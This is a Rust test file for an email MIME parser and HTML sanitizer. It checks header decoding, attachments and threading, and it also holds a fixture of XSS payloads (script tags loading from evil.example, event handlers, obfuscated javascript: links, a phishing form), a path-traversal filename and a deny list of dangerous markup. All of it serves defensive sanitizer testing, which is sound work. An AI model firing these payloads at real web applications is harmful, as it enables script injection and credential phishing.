//! Real-shaped raw messages, written out in full, through [`parse_mime`] and [`sanitize_html`].

use chrono::{TimeZone, Utc};

use super::*;

/// The fixtures are written with `\n`; mail on the wire uses `\r\n`, so most tests feed that.
fn crlf(raw: &str) -> Vec<u8> {
    raw.replace('\n', "\r\n").into_bytes()
}

fn parse(raw: &str) -> ParsedEmail {
    match parse_mime(&crlf(raw)) {
        Ok(email) => email,
        Err(error) => panic!("fixture did not parse: {error}"),
    }
}

const PLAIN: &str = r#"Return-Path: <maya.sari@example.com>
From: "Maya Sari" <Maya.Sari@Example.COM >
To: support@shop.example, "Bob" <BOB@shop.example>
Cc: Team: ann@shop.example, joe@shop.example;, not-an-address
Subject:   Order 1234 has not arrived
Date: Tue, 29 Oct 2024 19:58:23 +0700
Message-ID: <CAF+abc123@mail.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Hello,
my order 1234 has not arrived yet.
"#;

#[test]
fn it_parses_a_plain_text_mail() {
    let email = parse(PLAIN);
    assert_eq!(
        email.from,
        Mailbox {
            address: "maya.sari@example.com".into(),
            name: Some("Maya Sari".into())
        }
    );
    let to: Vec<_> = email.to.iter().map(|m| m.address.as_str()).collect();
    assert_eq!(to, ["support@shop.example", "bob@shop.example"]);
    assert_eq!(email.to[1].name.as_deref(), Some("Bob"));
    let cc: Vec<_> = email.cc.iter().map(|m| m.address.as_str()).collect();
    assert_eq!(
        cc,
        ["ann@shop.example", "joe@shop.example"],
        "group members, junk dropped"
    );
    assert_eq!(email.reply_to, None);
    assert_eq!(email.subject.as_deref(), Some("Order 1234 has not arrived"));
    assert_eq!(
        email.message_id.as_deref(),
        Some("CAF+abc123@mail.example.com")
    );
    assert_eq!(
        email.sent_at,
        Some(Utc.with_ymd_and_hms(2024, 10, 29, 12, 58, 23).unwrap())
    );
    let text = email.text.unwrap_or_default();
    assert!(text.starts_with("Hello,"), "{text:?}");
    assert!(text.contains("my order 1234 has not arrived yet."));
    assert_eq!(email.html, None, "a plain-text mail has no HTML body");
    assert!(email.attachments.is_empty());
    assert!(email.in_reply_to.is_empty() && email.references.is_empty());
}

#[test]
fn it_accepts_bare_line_feeds() {
    let email = parse_mime(PLAIN.as_bytes()).map_err(|e| e.to_string());
    assert_eq!(
        email.map(|e| e.from.address),
        Ok("maya.sari@example.com".to_owned())
    );
}

#[test]
fn it_keeps_both_bodies_of_a_multipart_alternative() {
    let email = parse(
        r#"From: shop@example.com
Reply-To: "Help desk" <Help@Example.com>
To: maya@example.com
Subject: Your receipt
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="=_alt_42"

This is a multi-part message in MIME format.

--=_alt_42
Content-Type: text/plain; charset="us-ascii"

Thanks for your order. Total: 10 EUR
--=_alt_42
Content-Type: text/html; charset="utf-8"

<html><head><style>p{color:red}</style></head><body><p>Thanks for your <b>order</b>.</p><p>Total: <i>10 EUR</i></p></body></html>
--=_alt_42--
"#,
    );
    assert_eq!(
        email.text.as_deref(),
        Some("Thanks for your order. Total: 10 EUR")
    );
    let html = email.html.unwrap_or_default();
    assert_eq!(
        html,
        "<p>Thanks for your <b>order</b>.</p><p>Total: <i>10 EUR</i></p>"
    );
    assert_eq!(
        email.reply_to,
        Some(Mailbox {
            address: "help@example.com".into(),
            name: Some("Help desk".into())
        })
    );
}

#[test]
fn it_derives_the_text_from_an_html_only_mail() {
    let email = parse(
        r#"From: shop@example.com
Content-Type: text/html; charset=utf-8

<div>Hello&nbsp;<b>Maya</b>,</div>
<p>your   parcel
is on its way.</p><script>track()</script><ul><li>1 x mug</li><li>2 x plate</li></ul>
<p>Fish &amp; chips &lt;3</p>
"#,
    );
    assert_eq!(
        email.text.as_deref(),
        Some("Hello Maya,\n\nyour parcel is on its way.\n\n1 x mug\n2 x plate\n\nFish & chips <3")
    );
    assert!(email.html.is_some());
}

#[test]
fn it_extracts_attachments_and_inline_images_of_a_multipart_mixed() {
    let email = parse(
        r#"From: billing@shop.example
To: maya@example.com
Subject: Invoice
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed-b"

--mixed-b
Content-Type: multipart/related; boundary="rel-b"

--rel-b
Content-Type: text/html; charset=utf-8

<p>Your invoice from <img src="cid:logo@shop.example" alt="Shop"> is attached.</p>
--rel-b
Content-Type: image/png
Content-Transfer-Encoding: base64
Content-ID: <logo@shop.example>
Content-Disposition: inline

iVBORw0KGgo=
--rel-b--

--mixed-b
Content-Type: application/pdf; name="invoice.pdf"
Content-Disposition: attachment; filename="../../etc/invoice-1234.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJXRlc3QgaW52b2ljZQolJUVPRgo=
--mixed-b
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64

AAEC/w==
--mixed-b--
"#,
    );
    let html = email.html.unwrap_or_default();
    assert!(
        html.contains(r#"<img src="cid:logo@shop.example" alt="Shop">"#),
        "{html}"
    );
    assert_eq!(
        email.text.as_deref(),
        Some("Your invoice from is attached.")
    );

    let [logo, invoice, blob] = email.attachments.as_slice() else {
        panic!("expected three attachments, got {:?}", email.attachments);
    };
    assert_eq!(logo.content_type, "image/png");
    assert_eq!(logo.content_id.as_deref(), Some("logo@shop.example"));
    assert!(logo.inline);
    assert_eq!(logo.filename, "attachment-1.png");
    assert_eq!(logo.data, b"\x89PNG\r\n\x1a\n");

    assert_eq!(
        invoice.filename, "invoice-1234.pdf",
        "path components are dropped"
    );
    assert_eq!(invoice.content_type, "application/pdf");
    assert!(!invoice.inline);
    assert_eq!(invoice.content_id, None);
    assert_eq!(invoice.data, b"%PDF-1.4\n%test invoice\n%%EOF\n");

    assert_eq!(blob.filename, "attachment-3.bin");
    assert_eq!(blob.content_type, "application/octet-stream");
    assert_eq!(blob.data, [0, 1, 2, 255]);
}

#[test]
fn it_keeps_a_forwarded_message_as_an_attachment() {
    let email = parse(
        r#"From: agent@shop.example
Subject: Fwd: complaint
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/plain

See the mail below.
--outer
Content-Type: message/rfc822

From: angry@example.net
Subject: inner complaint

The inner body.
--outer--
"#,
    );
    assert_eq!(email.text.as_deref(), Some("See the mail below."));
    let [forwarded] = email.attachments.as_slice() else {
        panic!("expected one attachment, got {:?}", email.attachments);
    };
    assert_eq!(forwarded.filename, "forwarded.eml");
    assert_eq!(forwarded.content_type, "message/rfc822");
    let data = String::from_utf8_lossy(&forwarded.data);
    assert!(data.contains("Subject: inner complaint"), "{data:?}");
    assert!(data.contains("The inner body."));
}

#[test]
fn it_decodes_quoted_printable_and_encoded_words() {
    let email = parse(
        r#"From: =?UTF-8?Q?Jos=C3=A9_Mar=C3=ADa?= <jose@example.es>
To: =?ISO-8859-1?Q?Fran=E7ois_M=FCller?= <francois@example.fr>
Subject: =?UTF-8?B?UGVzYW5hbiBBbmRhIOKAlCBncsO2w59lIOKckw==?=
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Caf=C3=A9 cr=C3=A8me, a soft=
 line break and =E2=82=AC 5.
"#,
    );
    assert_eq!(email.from.name.as_deref(), Some("José María"));
    assert_eq!(email.to[0].name.as_deref(), Some("François Müller"));
    assert_eq!(email.subject.as_deref(), Some("Pesanan Anda — größe ✓"));
    assert_eq!(
        email.text.as_deref().map(str::trim_end),
        Some("Café crème, a soft line break and € 5.")
    );
}

#[test]
fn it_decodes_a_latin1_body() {
    let mut raw =
        b"From: a@example.com\r\nContent-Type: text/plain; charset=iso-8859-1\r\n\r\n".to_vec();
    raw.extend_from_slice(b"Gr\xfc\xdfe aus K\xf6ln\r\n");
    let email = parse_mime(&raw).map_err(|e| e.to_string());
    assert_eq!(
        email.map(|e| e.text.map(|t| t.trim_end().to_owned())),
        Ok(Some("Grüße aus Köln".to_owned()))
    );
}

#[test]
fn it_reads_every_id_of_in_reply_to_and_references() {
    let email = parse(
        r#"From: maya@example.com
Message-ID: no-brackets@example.com
In-Reply-To: <reply-1@shop.example> <reply-2@shop.example>
References: <root@shop.example>
 <reply-1@shop.example>
	<reply-2@shop.example> <root@shop.example>
Subject: Re: Re: order

Still waiting.
"#,
    );
    assert_eq!(email.message_id.as_deref(), Some("no-brackets@example.com"));
    assert_eq!(
        email.in_reply_to,
        ["reply-1@shop.example", "reply-2@shop.example"]
    );
    assert_eq!(
        email.references,
        [
            "root@shop.example",
            "reply-1@shop.example",
            "reply-2@shop.example"
        ],
        "in order, each once"
    );
}

const HOSTILE_HTML: &str = r#"<p>Hello agent</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)><img src="data:image/png;base64,AAAA" alt="<script>alert(3)</script>">
<a href="javascript:alert(1)">first</a> <a href="JaVaScRiPt:alert(2)">second</a>
<a href="&#106;avascript:alert(4)">third</a> <a href=" java&#x09;script:alert(5)">fourth</a>
<a href="vbscript:msgbox(1)">fifth</a> <a href="cid:x@y">sixth</a>
<iframe src="https://evil.example/frame"></iframe><IFRAME SRCDOC="<script>alert(6)</script>">
</IFRAME><svg onload=alert(7)><circle r=1 /></svg><object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/phish"><input name=password></form><style>body{display:none}</style>
<div style="background:url(javascript:alert(8))" onclick="alert(9)" class=x id=y>styled</div>
<a href="https://shop.example/track?id=1&amp;lang=en" target=_blank onmouseover="alert(10)">Track order</a>
<a href="mailto:help@shop.example">Write to us</a><img src="https://cdn.shop.example/logo.png" alt="Logo">"#;

/// What no sanitised HTML may contain, compared case-insensitively.
const FORBIDDEN: [&str; 14] = [
    "<script",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "javascript:",
    "vbscript:",
    "data:",
    "<iframe",
    "<svg",
    "<object",
    "<form",
    "<input",
    "<style",
];

fn assert_harmless(html: &str) {
    let lower = html.to_lowercase();
    for needle in FORBIDDEN {
        assert!(!lower.contains(needle), "{needle:?} survived in {html}");
    }
}

#[test]
fn it_stores_hostile_html_defused_and_keeps_the_harmless_parts() {
    let raw = format!(
        "From: attacker@example.net\nContent-Type: text/html; charset=utf-8\n\n{HOSTILE_HTML}\n"
    );
    let email = parse(&raw);
    let html = email.html.unwrap_or_default();
    assert_harmless(&html);
    assert!(html.contains("<p>Hello agent</p>"), "{html}");
    assert!(
        html.contains(r#"<a href="https://shop.example/track?id=1&amp;lang=en" rel="noopener noreferrer nofollow">Track order</a>"#),
        "{html}"
    );
    assert!(html.contains(
        r#"<a href="mailto:help@shop.example" rel="noopener noreferrer nofollow">Write to us</a>"#
    ));
    assert!(html.contains(r#"<img src="https://cdn.shop.example/logo.png" alt="Logo">"#));
    assert!(
        html.contains("<div>styled</div>"),
        "all attributes of the div go: {html}"
    );
    for text in ["first", "second", "third", "fourth", "fifth", "sixth"] {
        assert!(
            html.contains(&format!(
                "<a rel=\"noopener noreferrer nofollow\">{text}</a>"
            )),
            "{text}: {html}"
        );
    }
    assert!(!html.contains("cid:"), "cid: is for images only");
    assert!(!html.contains("body{display"), "style content is dropped");
    assert_eq!(sanitize_html(&html), html, "sanitising is idempotent");

    let text = email.text.unwrap_or_default();
    assert!(
        text.contains("Hello agent") && text.contains("Track order"),
        "{text}"
    );
    assert!(!text.contains("alert"), "script content is no text: {text}");
}

#[test]
fn sanitize_html_keeps_the_allowed_formatting() {
    let html = "<h1>Title</h1><blockquote><pre><code>let x = 1;</code></pre></blockquote>\
                <ul><li><strong>a</strong></li></ul><ol><li><em>b</em></li></ol><u>c</u>\
                <table><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>\
                <span>e</span><br>";
    assert_eq!(sanitize_html(html), html);
}

#[test]
fn sanitize_html_applies_the_schemes_per_element() {
    let out = sanitize_html(
        r#"<a href="cid:part@x">1</a><img src="mailto:a@b"><img src="cid:part@x"><a href="/relative">2</a><img src="logo.png">"#,
    );
    assert_eq!(
        out,
        r#"<a rel="noopener noreferrer nofollow">1</a><img><img src="cid:part@x"><a rel="noopener noreferrer nofollow">2</a><img>"#
    );
}

#[test]
fn sanitize_html_never_lets_markup_through_attribute_values() {
    let out = sanitize_html(
        r#"<img alt="<script>alert(1)</script>" src="https://x.example/a?q=<script>"><a href="mailto:a@b?subject=<script>">m</a>"#,
    );
    assert!(!out.to_lowercase().contains("<script"), "{out}");
    assert!(out.contains("%3Cscript%3E"), "{out}");
}

#[test]
fn a_mail_without_a_usable_from_is_refused() {
    let missing = crlf("To: support@shop.example\nSubject: hi\n\nbody\n");
    assert_eq!(parse_mime(&missing), Err(EmailError::NoSender));
    let junk = crlf("From: undisclosed-recipients:;\nTo: support@shop.example\n\nbody\n");
    assert_eq!(parse_mime(&junk), Err(EmailError::NoSender));
    let no_domain = crlf("From: \"Maya\" <maya@>\n\nbody\n");
    assert_eq!(parse_mime(&no_domain), Err(EmailError::NoSender));
}

#[test]
fn input_without_headers_is_unparseable() {
    assert_eq!(parse_mime(b""), Err(EmailError::Unparseable));
}

#[test]
fn input_over_the_limit_is_refused_before_parsing() {
    let mut raw = crlf(PLAIN);
    raw.resize(MAX_EMAIL_BYTES + 1, b'a');
    assert_eq!(
        parse_mime(&raw),
        Err(EmailError::TooLarge {
            size: MAX_EMAIL_BYTES + 1,
            max: MAX_EMAIL_BYTES
        })
    );
    raw.truncate(MAX_EMAIL_BYTES);
    assert!(parse_mime(&raw).is_ok(), "exactly the limit is accepted");
}

/// Found by `tests/fuzz_email.rs`: a `message/rfc822` part whose own body is declared
/// `message/rfc822` again, inside a multipart, trips one of mail-parser's `debug_assert!`s (debug
/// builds panic there, release builds carry on). Either way the sender must not be lost.
#[test]
fn a_body_structure_that_panics_the_parser_still_yields_the_headers() {
    let raw = "From: a@A.com\nSubject: nested\nContent-Type: multipart/mixed; boundary=\"a\"\n\n\n\
               --a\nContent-Type: message/rfc822\n\nFrom: forwarded@example.org\n\
               Content-Type: message/rfc822; charset=utf-8\nContent-Transfer-Encoding: \n\n\
               <script>alert(1)</script>\n--a\nContent-Transfer-Encoding: base64\n\n\n--a--\nepilogue\n";
    let email = parse_mime(raw.as_bytes()).map_err(|e| e.to_string());
    let email = email.unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(email.from.address, "a@a.com");
    assert_eq!(email.subject.as_deref(), Some("nested"));
    assert!(email.html.is_none_or(|html| !html.contains("<script")));
}

/// Found by `tests/fuzz_email.rs`: with two forwarded messages of this shape mail-parser returns
/// one of the nested messages as if it were the outer one. Taking its `From` would attribute the
/// mail to the forwarded sender.
#[test]
fn a_nested_message_is_never_mistaken_for_the_outer_one() {
    let raw = "From: A@a.com\nSubject: outer\nContent-Type: multipart/mixed; boundary=\"=\"\n\n\n\
               --=\nContent-Type: message/rfc822\n\nFrom: forwarded@example.org\n\
               Content-Type: message/rfc822; charset=utf-8\nContent-Transfer-Encoding: 7bit\n\n\
               <script>alert(1)</script>\n--=\nContent-Transfer-Encoding: base64\n\n\n--=\n\
               Content-Type: message/rfc822\n\nFrom: forwarded@example.org\n\
               Content-Transfer-Encoding: base64\n\n\n--=--\nepilogue\n";
    let email = parse_mime(raw.as_bytes()).map_err(|e| e.to_string());
    let email = email.unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(email.from.address, "a@a.com");
    assert_eq!(email.subject.as_deref(), Some("outer"));
}

/// Found by `tests/fuzz_email.rs`: a single ammonia pass over this is not a fixed point.
#[test]
fn sanitize_html_is_a_fixed_point_even_where_one_pass_is_not() {
    for input in [
        "</style>\u{feff}",
        "<pre>\n\nx</pre>",
        "<table>a<td>b</table>",
    ] {
        let once = sanitize_html(input);
        assert_eq!(sanitize_html(&once), once, "{input:?}");
    }
}
